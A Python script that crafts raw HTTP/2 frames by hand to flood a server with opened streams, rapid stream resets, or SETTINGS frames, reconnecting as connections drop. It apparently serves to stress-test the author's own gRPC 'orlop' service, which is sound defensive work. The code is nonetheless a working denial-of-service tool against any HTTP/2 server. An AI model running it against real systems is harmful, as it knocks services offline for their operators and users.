"""Floods that no gRPC library makes: raw HTTP/2 frames (RFC 9113), written by hand, on as many connections as it takes.

    python http2_floods.py KIND ADDRESS SECONDS        prints how many frames were sent on how many connections
"""
import contextlib
import socket
import struct
import sys
import threading
import time

HEADERS, RST_STREAM, SETTINGS, END_HEADERS, CANCEL = 1, 3, 4, 4, 8
AT_ONCE = 100  # frames in one write


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
# POST over http, by their numbers in the static table.
BLOCK = (b"\x83\x86" + literal(b":path", b"/orlop.v1.Job/Join") + literal(b":authority", b"x") +
         literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def connect(address):
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address.removeprefix("unix:"))
    else:
        host, port = address.rsplit(":", 1)
        connection = socket.create_connection((host, int(port)))
    connection.settimeout(5)
    connection.sendall(PREFACE)
    return connection


def opened(first):
    return b"".join(frame(HEADERS, END_HEADERS, first + 2 * number, BLOCK) for number in range(AT_ONCE))


def reset(first):
    return b"".join(frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    for stream in range(first, first + 2 * AT_ONCE, 2))


# What is written again and again: from the number of the next stream.
KINDS = {"streams opened": opened, "rapid resets": reset, "rapid resets, nothing read": reset,
         "settings, nothing read": lambda first: frame(SETTINGS, 0, 0) * AT_ONCE}


def drain(connection):
    with contextlib.suppress(OSError):
        while connection.recv(1 << 16):
            pass


def flood(kind, address, seconds):
    """Send frames for some time, on a new connection whenever one ends. Return the numbers of frames and of connections."""
    end, sent, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(address) as connection:
            connections += 1
            if "nothing read" not in kind:
                threading.Thread(target=drain, args=(connection,), daemon=True).start()
            first = 1
            while time.monotonic() < end:
                connection.sendall(KINDS[kind](first))
                first, sent = first + 2 * AT_ONCE, sent + AT_ONCE
    return sent, connections


if __name__ == "__main__":
    print(*flood(sys.argv[1], sys.argv[2], float(sys.argv[3])))
